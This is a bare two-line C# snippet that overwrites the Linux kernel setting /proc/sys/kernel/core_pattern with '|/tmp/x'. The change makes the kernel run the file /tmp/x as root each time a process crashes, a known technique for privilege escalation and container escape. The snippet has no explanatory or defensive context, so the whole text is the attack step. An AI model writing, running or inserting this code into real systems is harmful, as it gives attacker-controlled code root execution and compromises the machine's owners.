var file = Path.Combine("/proc/sys", "kernel", "core_pattern");
File.WriteAllText(file, "|/tmp/x");
